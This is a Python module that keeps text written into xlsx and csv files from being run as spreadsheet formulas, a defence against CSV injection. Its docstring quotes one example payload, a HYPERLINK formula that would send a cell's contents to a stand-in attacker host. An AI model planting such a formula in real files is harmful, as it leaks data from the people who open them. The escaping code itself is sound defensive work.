"""Text from a plan, written into a spreadsheet, stays text: no cell becomes a formula.

A plan line or an indicator name is whatever the document said, and a document can say
`=HYPERLINK("http://evil.example/?x="&A1,"点我")`. openpyxl stores any string starting with
`=` as a formula, and Excel or LibreOffice run a cell typed `+`, `-` or `@` (or starting with
a tab or carriage return, which some of them strip first) as one when a person edits it.
Every xlsx and csv writer of planwatch goes through this module (OWASP "CSV injection"):

- xlsx: `append_row` writes such a cell as a string (data type "s", so no `<f>` element)
  with Excel's quote prefix set, so it also stays text when edited; it shows unchanged.
- csv: `csv_field` puts an apostrophe before such a text, the convention spreadsheets read
  as "this is text"; a CSV has no other way to say it.

Numbers (int, float, Decimal) are never changed: -3.5 is a number, not a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

# The first characters a spreadsheet may read as the start of a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    """Whether `value` is text a spreadsheet could run as a formula."""
    return isinstance(value, str) and value.startswith(TRIGGERS)


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)`, with every formula-like text cell written as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value):
            cell.data_type = "s"  # openpyxl made it "f" (a formula) on seeing "="
            cell.quotePrefix = True


def csv_field(value: object) -> object:
    """`value` for a csv writer: formula-like text gets a leading apostrophe; anything else as is."""
    return "'" + value if isinstance(value, str) and is_formula_like(value) else value
